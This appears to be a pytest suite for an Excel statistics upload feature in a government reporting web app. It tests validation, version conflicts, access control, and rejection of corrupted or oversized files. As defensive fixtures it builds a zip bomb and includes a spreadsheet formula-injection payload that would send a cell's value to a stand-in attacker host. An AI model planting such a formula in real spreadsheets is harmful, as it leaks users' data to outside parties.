"""Figures from Excel (统计表): download, fill with openpyxl, upload, preview, confirm — for a unit's
liaison and for the admin over a section; per-cell errors, version conflicts, other units and regions."""
from __future__ import annotations

import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from fazhi_flow.models import AuditEvent, Region, Unit
from fazhi_flow.models.indicator import Indicator, IndicatorValue
from fazhi_flow.services.figures import save_figures

from .conftest import quick_user

BODY = "全区共有人民调解委员会{{med_total}}个，其中村级调委会{{med_village}}个。" + "依法化解矛盾纠纷。" * 300


@pytest.fixture()
def world(seed_world, db):
    c = seed_world.contribution_of("sfj", "govern")
    c.body = BODY
    db.session.commit()
    # Values as a request reads them (Decimal("265.0000")), as the fingerprints of every later request do.
    db.session.expire_all()
    return seed_world


def page(response):
    return response.get_data(as_text=True)


def _value(db, contribution, code):
    db.session.expire_all()
    ind = db.session.scalar(select(Indicator).where(Indicator.cycle_id == contribution.cycle_id, Indicator.code == code))
    row = db.session.scalar(select(IndicatorValue).where(IndicatorValue.indicator_id == ind.id,
                                                         IndicatorValue.contribution_id == contribution.id))
    return None if row is None or row.value is None else Decimal(row.value)


def _download(client, url):
    client.application.extensions["sqlalchemy"].session.expire_all()
    response = client.get(url)
    assert response.status_code == 200, page(response)
    assert response.mimetype.endswith("spreadsheetml.sheet")
    return load_workbook(io.BytesIO(response.data))


def _row_of(sheet, code, code_col=1):
    for row in sheet.iter_rows(min_row=2):
        if row[code_col - 1].value == code:
            return row[0].row
    raise AssertionError(f"{code} not in the sheet")


def _save(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _upload(client, url, data: bytes, name="统计表.xlsx"):
    return client.post(url, data={"file": (io.BytesIO(data), name)}, content_type="multipart/form-data")


def _confirm_form(html: str) -> dict:
    """The hidden fields of the preview's confirmation form."""
    import re

    form = html[html.index('/sheet/confirm"') :]
    form = form[: form.index("</form>")]
    return {m.group(1): m.group(2) for m in re.finditer(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', form)
            if m.group(1) != "csrf_token"} | {
        "contribution": re.findall(r'name="contribution" value="(\d+)"', form)}


# ---------------------------------------------------------------- the liaison's sheet


def test_round_trip_download_fill_preview_confirm(client, login, world, db):
    c = world.contribution_of("sfj", "govern")
    login(world.liaisons["sfj"])
    book = _download(client, f"/figures/contribution/{c.id}/sheet.xlsx")
    sheet = book["统计数据"]
    assert [cell.value for cell in sheet[1]][:3] == ["指标代码", "指标名称", "填报值"]
    r = _row_of(sheet, "med_total")
    assert sheet.cell(r, 2).value == "调委会总数" and sheet.cell(r, 3).value == 265 and sheet.cell(r, 4).value == "个"
    # Codes locked, values open, the sheet protected; every value cell validated; the meta sheet hidden.
    assert sheet.protection.sheet and sheet.cell(r, 1).protection.locked and not sheet.cell(r, 3).protection.locked
    validated = {str(cell) for dv in sheet.data_validations.dataValidation for rng in dv.sqref.ranges for cell in [rng]}
    assert any(f"C{r}" in v for v in validated)
    rate = _row_of(sheet, "appear_rate")
    rate_dv = [dv for dv in sheet.data_validations.dataValidation if f"C{rate}" in str(dv.sqref)][0]
    assert rate_dv.type == "decimal" and rate_dv.formula2 == "100"
    meta = book["系统信息"]
    assert meta.sheet_state == "hidden" and meta["A3"].value == c.id and meta["B3"].value == c.version

    sheet.cell(r, 3).value = 266
    sheet.cell(_row_of(sheet, "med_village"), 3).value = "243"  # typed as text: read like the form
    sheet.cell(_row_of(sheet, "suit_closed"), 3).value = None  # cleared
    response = _upload(client, f"/figures/contribution/{c.id}/sheet", _save(book))
    assert response.status_code == 200, page(response)
    html = page(response)
    assert f"C{r}" in html and "调委会总数（med_total）" in html and "<td>265</td><td>266</td>" in html
    assert "<td>23</td><td>（清空）</td>" in html
    assert _value(db, c, "med_total") == 265  # a preview writes nothing

    form = _confirm_form(html)
    form.pop("contribution")
    response = client.post(f"/figures/contribution/{c.id}/sheet/confirm", data=form)
    assert response.status_code == 302, form
    assert response.location.endswith(f"/figures/contribution/{c.id}"), page(client.get(response.location))
    assert _value(db, c, "med_total") == 266 and _value(db, c, "med_village") == 243
    assert _value(db, c, "suit_closed") is None
    audit = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "figures.save",
                                                        AuditEvent.target == f"contribution:{c.id}")
                               .order_by(AuditEvent.id.desc())).first()
    assert audit.detail["changed"]["med_total"] == ["265", "266"]
    assert audit.actor_id == world.liaisons["sfj"].id
    assert c.body == BODY  # the text is left as it was


def test_per_cell_errors_refuse_the_whole_sheet(client, login, world, db):
    c = world.contribution_of("sfj", "govern")
    login(world.liaisons["sfj"])
    book = _download(client, f"/figures/contribution/{c.id}/sheet.xlsx")
    sheet = book["统计数据"]
    r_total, r_rate = _row_of(sheet, "med_total"), _row_of(sheet, "appear_rate")
    r_town, r_park, r_med = _row_of(sheet, "med_town"), _row_of(sheet, "med_park"), _row_of(sheet, "mediators")
    sheet.cell(r_total, 3).value = "两百"
    sheet.cell(r_rate, 3).value = 150
    sheet.cell(r_town, 3).value = "=1+2"
    sheet.cell(r_park, 1).value = "no_such_code"
    sheet.cell(r_med, 3).value = 1200  # a good value: still not saved
    response = _upload(client, f"/figures/contribution/{c.id}/sheet", _save(book))
    assert response.status_code == 422
    html = page(response)
    assert f"C{r_total}：“调委会总数”应填写数字，您填写的是“两百”。" in html
    assert f"C{r_rate}：“行政负责人出庭应诉率”是百分比，不能大于100%" in html
    assert f"C{r_town}：“镇级调委会数”填写的是公式" in html
    assert f"A{r_park}：指标代码“no_such_code”不属于区司法局的这份材料" in html
    assert "统计表有4处错误，均未保存" in html
    assert _value(db, c, "mediators") == 1104 and _value(db, c, "med_total") == 265


def test_sheet_of_another_contribution_is_refused(client, login, world, db):
    govern, enforce = world.contribution_of("sfj", "govern"), world.contribution_of("sfj", "enforce")
    login(world.liaisons["sfj"])
    book = _download(client, f"/figures/contribution/{enforce.id}/sheet.xlsx")
    book["统计数据"]["C2"].value = 1
    response = _upload(client, f"/figures/contribution/{govern.id}/sheet", _save(book))
    assert response.status_code == 422
    assert f"系统信息!A3：这份统计表属于另一份材料（材料编号{enforce.id}）" in page(response)
    # The hidden material number changed by hand to another unit's: refused the same way, nothing written.
    other = world.contribution_of("town_a", "enforce")
    book = _download(client, f"/figures/contribution/{govern.id}/sheet.xlsx")
    book["系统信息"]["A3"].value = other.id
    book["统计数据"]["C2"].value = 300
    response = _upload(client, f"/figures/contribution/{govern.id}/sheet", _save(book))
    assert response.status_code == 422 and f"材料编号{other.id}" in page(response)
    assert _value(db, govern, "med_total") == 265


def test_not_a_workbook_and_a_bomb_are_refused(client, login, world, db):
    c = world.contribution_of("sfj", "govern")
    login(world.liaisons["sfj"])
    response = _upload(client, f"/figures/contribution/{c.id}/sheet", "指标代码,填报值\n".encode())
    assert response.status_code == 400 and "无法读取该Excel文件" in page(response)
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (21 * 1024 * 1024))
    response = _upload(client, f"/figures/contribution/{c.id}/sheet", bomb.getvalue())
    assert response.status_code == 400 and "解压后超过20MB" in page(response)
    response = client.post(f"/figures/contribution/{c.id}/sheet", data={})
    assert response.status_code == 400 and "请选择填写好的统计表" in page(response)


def test_roll_up_row_is_refused(client, login, world, db):
    c = world.contribution_of("sfj", "govern")
    db.session.add(Indicator(cycle_id=world.cycle.id, section_id=world.sections["govern"].id, code="city_cases",
                             name="全市调解案件数", measure="件", type="integer", rollup="sum", position=99))
    db.session.commit()
    login(world.liaisons["sfj"])
    book = _download(client, f"/figures/contribution/{c.id}/sheet.xlsx")
    sheet = book["统计数据"]
    assert all(row[0].value != "city_cases" for row in sheet.iter_rows(min_row=2))  # nobody enters it
    sheet.append(["city_cases", "全市调解案件数", 99])
    response = _upload(client, f"/figures/contribution/{c.id}/sheet", _save(book))
    assert response.status_code == 422
    assert f"C{sheet.max_row}：“全市调解案件数”（city_cases）是汇总指标" in page(response)


def test_values_changed_since_download_is_a_conflict(client, login, world, db):
    c = world.contribution_of("sfj", "govern")
    login(world.liaisons["sfj"])
    book = _download(client, f"/figures/contribution/{c.id}/sheet.xlsx")
    sheet = book["统计数据"]
    sheet.cell(_row_of(sheet, "mediators"), 3).value = 1300
    data = _save(book)
    # A colleague saves through the form after the download.
    save_figures(c, world.liaisons["sfj"], {"med_trade": "5", "med_total": "266"})
    db.session.commit()
    response = _upload(client, f"/figures/contribution/{c.id}/sheet", data)
    assert response.status_code == 409
    assert "统计数据已被他人修改，您填写的内容尚未保存。" in page(response)
    assert _value(db, c, "mediators") == 1104


def test_change_between_preview_and_confirm_is_a_conflict(client, login, world, db):
    c = world.contribution_of("sfj", "govern")
    login(world.liaisons["sfj"])
    book = _download(client, f"/figures/contribution/{c.id}/sheet.xlsx")
    sheet = book["统计数据"]
    sheet.cell(_row_of(sheet, "mediators"), 3).value = 1300
    form = _confirm_form(page(_upload(client, f"/figures/contribution/{c.id}/sheet", _save(book))))
    form.pop("contribution")
    save_figures(c, world.liaisons["sfj"], {"suit_total": "43"})
    db.session.commit()
    response = client.post(f"/figures/contribution/{c.id}/sheet/confirm", data=form, follow_redirects=True)
    assert "统计数据已被他人修改" in page(response)
    assert _value(db, c, "mediators") == 1104 and _value(db, c, "suit_total") == 43


def test_only_while_editable_and_only_own_unit(client, login, world, db):
    c = world.contribution_of("sfj", "govern")
    login(world.liaisons["town_a"])
    assert client.get(f"/figures/contribution/{c.id}/sheet.xlsx").status_code == 403
    assert client.get(f"/figures/contribution/{c.id}/sheet").status_code == 403
    login(world.liaisons["sfj"])
    book = _download(client, f"/figures/contribution/{c.id}/sheet.xlsx")
    c.state = "submitted"
    db.session.commit()
    response = _upload(client, f"/figures/contribution/{c.id}/sheet", _save(book))
    assert response.status_code == 403
    # Reviewers and admins may download it (to read), not upload it.
    login(world.admin)
    assert client.get(f"/figures/contribution/{c.id}/sheet.xlsx").status_code == 200
    assert client.post(f"/figures/contribution/{c.id}/sheet/confirm", data={"value-mediators": "1"}).status_code == 403
    assert _value(db, c, "mediators") == 1104


def test_another_regions_contribution_and_section_are_not_found(client, login, world, db, factory):
    """Two regions both have a unit "gaj": the other county's people get 404 for every sheet address."""
    here = db.session.get(Region, world.cycle.region_id)
    gaj_here = Unit(region=here, code="gaj", name="赫山公安分局")
    db.session.add(gaj_here)
    db.session.flush()
    factory.contribution(factory.assignment(world.sections["govern"], gaj_here, role="support"))
    there = Region(code="430902", name="资阳区", level="county")
    db.session.add(there)
    db.session.flush()
    gaj_there = Unit(region=there, code="gaj", name="资阳公安分局")
    db.session.add(gaj_there)
    db.session.flush()
    liaison = quick_user(db, "liaison", unit=gaj_there, name="资阳公安联络员")
    admin = quick_user(db, "admin", unit=gaj_there, name="资阳管理员")
    db.session.commit()
    c = world.contribution_of("sfj", "govern")
    section = world.sections["govern"]
    login(world.liaisons["sfj"])
    data = _save(_download(client, f"/figures/contribution/{c.id}/sheet.xlsx"))
    for user in (liaison, admin):
        login(user)
        assert client.get(f"/figures/contribution/{c.id}/sheet.xlsx").status_code == 404
        assert _upload(client, f"/figures/contribution/{c.id}/sheet", data).status_code == 404
        assert client.post(f"/figures/contribution/{c.id}/sheet/confirm",
                           data={"value-mediators": "1"}).status_code == 404
    login(admin)
    base = f"/figures/cycle/{world.cycle.id}/section/{section.id}/sheet"
    assert client.get(base + ".xlsx").status_code == 404
    assert _upload(client, base, data).status_code == 404
    assert client.post(base + "/confirm", data={"contribution": str(c.id), f"stamp-{c.id}": "x",
                                                f"value-{c.id}-mediators": "1"}).status_code == 404
    assert _value(db, c, "mediators") == 1104


# ---------------------------------------------------------------- the admin's section sheet


def test_admin_section_sheet_round_trip_with_skipped_unit(client, login, world, db):
    section = world.sections["enforce"]
    sfj, town_a, town_b = (world.contribution_of(k, "enforce") for k in ("sfj", "town_a", "town_b"))
    login(world.admin)
    base = f"/figures/cycle/{world.cycle.id}/section/{section.id}/sheet"
    book = _download(client, base + ".xlsx")
    sheet = book["统计数据"]
    assert [cell.value for cell in sheet[1]][:5] == ["材料编号", "单位", "指标代码", "指标名称", "填报值"]
    rows = {(row[0].value, row[2].value): row[0].row for row in sheet.iter_rows(min_row=2)}
    # The lead unit enters every indicator, the supporting units only "inspections".
    assert (sfj.id, "lenient_total") in rows and (town_a.id, "inspections") in rows
    assert (town_a.id, "lenient_total") not in rows
    sheet.cell(rows[(town_a.id, "inspections")], 5).value = 1400
    sheet.cell(rows[(sfj.id, "inspections_total")], 5).value = 3900
    sheet.cell(rows[(town_b.id, "inspections")], 5).value = 1088
    town_b.state = "submitted"  # submitted meanwhile: skipped, with the reason
    db.session.commit()

    response = _upload(client, base, _save(book))
    assert response.status_code == 200, page(response)
    html = page(response)
    assert "龙光桥街道：材料当前为“待审核”，不能修改统计数据，表中的1处改动不保存。" in html
    assert "<td>八字哨镇</td>" in html and "<td>1312</td><td>1400</td>" in html
    form = _confirm_form(html)
    assert sorted(form["contribution"]) == sorted([str(sfj.id), str(town_a.id)])
    response = client.post(base + "/confirm", data=form)
    assert response.status_code == 302
    assert _value(db, town_a, "inspections") == 1400 and _value(db, sfj, "inspections_total") == 3900
    assert _value(db, town_b, "inspections") == 1000
    audit = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "figures.save",
                                                       AuditEvent.target == f"contribution:{town_a.id}")
                              .order_by(AuditEvent.id.desc()).limit(1))
    assert audit.actor_id == world.admin.id and audit.detail["on_behalf_of_unit"] == town_a.unit_id
    assert audit.detail["changed"]["inspections"] == ["1312", "1400"]


def test_admin_section_sheet_is_all_or_nothing_and_version_checked(client, login, world, db):
    section = world.sections["enforce"]
    sfj, town_a = world.contribution_of("sfj", "enforce"), world.contribution_of("town_a", "enforce")
    login(world.admin)
    base = f"/figures/cycle/{world.cycle.id}/section/{section.id}/sheet"
    book = _download(client, base + ".xlsx")
    sheet = book["统计数据"]
    rows = {(row[0].value, row[2].value): row[0].row for row in sheet.iter_rows(min_row=2)}
    sheet.cell(rows[(sfj.id, "inspections")], 5).value = 1600
    bad = rows[(town_a.id, "inspections")]
    sheet.cell(bad, 5).value = "约1300"
    moved = rows[(sfj.id, "no_penalty")]
    sheet.cell(moved, 1).value = town_a.id  # a row moved to a unit that does not enter it
    response = _upload(client, base, _save(book))
    assert response.status_code == 422
    html = page(response)
    assert f"E{bad}：“涉企检查次数”请填写确切的数字" in html
    assert f"C{moved}：指标代码“no_penalty”不属于八字哨镇的这份材料" in html
    assert _value(db, sfj, "inspections") == 1500

    sheet.cell(bad, 5).value = 1300
    sheet.cell(moved, 1).value = sfj.id
    form = _confirm_form(page(_upload(client, base, _save(book))))
    save_figures(town_a, world.liaisons["town_a"], {"inspections": "1313"})
    db.session.commit()
    response = client.post(base + "/confirm", data=form, follow_redirects=True)
    assert "八字哨镇的统计数据已被他人修改" in page(response)
    assert _value(db, sfj, "inspections") == 1500 and _value(db, town_a, "inspections") == 1313
    # A sheet of another section is not taken for this one.
    other = f"/figures/cycle/{world.cycle.id}/section/{world.sections['govern'].id}/sheet"
    response = _upload(client, other, _save(book))
    assert response.status_code == 422 and "不是本章节" in page(response)


def test_non_admin_cannot_use_the_section_sheet(client, login, world):
    base = f"/figures/cycle/{world.cycle.id}/section/{world.sections['enforce'].id}/sheet"
    for user in (world.liaisons["sfj"], world.reviewer, world.leader):
        login(user)
        assert client.get(base + ".xlsx").status_code == 403
        assert client.post(base + "/confirm", data={}).status_code == 403


def test_links_on_the_values_and_definitions_pages(client, login, world):
    c = world.contribution_of("sfj", "govern")
    login(world.liaisons["sfj"])
    html = page(client.get(f"/figures/contribution/{c.id}"))
    assert f"/figures/contribution/{c.id}/sheet.xlsx" in html and f"/figures/contribution/{c.id}/sheet\"" in html
    login(world.admin)
    html = page(client.get(f"/figures/cycle/{world.cycle.id}/definitions"))
    assert f"/section/{world.sections['enforce'].id}/sheet.xlsx" in html


def test_last_years_value_and_a_percentage_typed_with_its_sign(client, login, world, db, factory):
    """Last year's approved value of the same unit and section (by code) is in the sheet; "95.5%" typed
    in Excel (stored as 0.955 in a percentage cell) is read as 95.5."""
    from openpyxl.styles.numbers import FORMAT_PERCENTAGE_00

    c = world.contribution_of("sfj", "govern")
    last = factory.cycle(state="published", year=2023)
    section = factory.section(last, "化解社会矛盾", code="govern")
    old = factory.contribution(factory.assignment(section, world.units["sfj"]), state="approved")
    ind = Indicator(cycle_id=last.id, section_id=section.id, code="med_total", name="调委会总数", measure="个",
                    type="integer")
    db.session.add(ind)
    db.session.flush()
    db.session.add(IndicatorValue(contribution_id=old.id, indicator_id=ind.id, value=250))
    db.session.commit()
    login(world.liaisons["sfj"])
    book = _download(client, f"/figures/contribution/{c.id}/sheet.xlsx")
    sheet = book["统计数据"]
    r = _row_of(sheet, "med_total")
    assert sheet.cell(1, 9).value == "上年数值" and sheet.cell(r, 9).value == 250
    assert sheet.cell(_row_of(sheet, "mediators"), 9).value is None
    rate = sheet.cell(_row_of(sheet, "appear_rate"), 3)
    rate.value, rate.number_format = 0.955, FORMAT_PERCENTAGE_00
    html = page(_upload(client, f"/figures/contribution/{c.id}/sheet", _save(book)))
    assert "<td>100</td><td>95.5</td>" in html, html


def test_names_starting_with_an_equals_sign_stay_text(client, login, world, db):
    """An indicator name the admin typed as "=HYPERLINK(…)" reaches the sheet as text, never a formula."""
    payload = '=HYPERLINK("http://evil.example/?"&C2,"点此查看")'
    ind = db.session.scalar(select(Indicator).where(Indicator.cycle_id == world.cycle.id, Indicator.code == "mediators"))
    ind.name = payload
    db.session.commit()
    c = world.contribution_of("sfj", "govern")
    login(world.liaisons["sfj"])
    sheet = _download(client, f"/figures/contribution/{c.id}/sheet.xlsx")["统计数据"]
    cell = sheet.cell(_row_of(sheet, "mediators"), 2)
    assert cell.value == payload and cell.data_type == "s"


def _rezip(data: bytes, name: str, change) -> bytes:
    """The workbook with one of its XML parts changed (as a damaged or hand-edited file would be)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            target.writestr(item, change(content) if item.filename == name else content)
    return out.getvalue()


def _stored_values(db):
    return sorted((v.contribution_id, v.indicator_id, v.value) for v in db.session.scalars(select(IndicatorValue)))


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"])
def test_a_damaged_sheet_inside_the_file_is_refused_not_an_error(client, login, world, db, part):
    """openpyxl reads a read-only workbook's sheets lazily: a sheet cut short fails while its rows are
    read, after the file opened fine. The data sheet and the hidden system sheet alike."""
    c = world.contribution_of("sfj", "govern")
    login(world.liaisons["sfj"])
    data = _save(_download(client, f"/figures/contribution/{c.id}/sheet.xlsx"))
    before = _stored_values(db)
    response = _upload(client, f"/figures/contribution/{c.id}/sheet", _rezip(data, part, lambda b: b[: len(b) // 2]))
    assert response.status_code == 400 and "文件可能已损坏" in page(response)
    assert _stored_values(db) == before

    login(world.admin)
    section = world.sections["enforce"]
    base = f"/figures/cycle/{world.cycle.id}/section/{section.id}/sheet"
    data = _save(_download(client, base + ".xlsx"))
    response = _upload(client, base, _rezip(data, part, lambda b: b[: len(b) // 2]))
    assert response.status_code == 400 and "文件可能已损坏" in page(response)
    assert _stored_values(db) == before


def test_an_infinite_number_in_a_percent_cell_is_a_cell_error(client, login, world, db):
    c = world.contribution_of("sfj", "govern")
    login(world.liaisons["sfj"])
    book = _download(client, f"/figures/contribution/{c.id}/sheet.xlsx")
    sheet = book["统计数据"]
    row = _row_of(sheet, "appear_rate")
    sheet.cell(row, 3).value = 0.123456789
    sheet.cell(row, 3).number_format = "0.0%"
    data = _save(book)
    bad = _rezip(data, "xl/worksheets/sheet1.xml", lambda b: b.replace(b"<v>0.123456789</v>", b"<v>1e999</v>"))
    assert bad != data
    before = _stored_values(db)
    response = _upload(client, f"/figures/contribution/{c.id}/sheet", bad)
    assert response.status_code in (400, 422) and f"C{row}：" in page(response) and "应填写数字" in page(response)
    assert _stored_values(db) == before
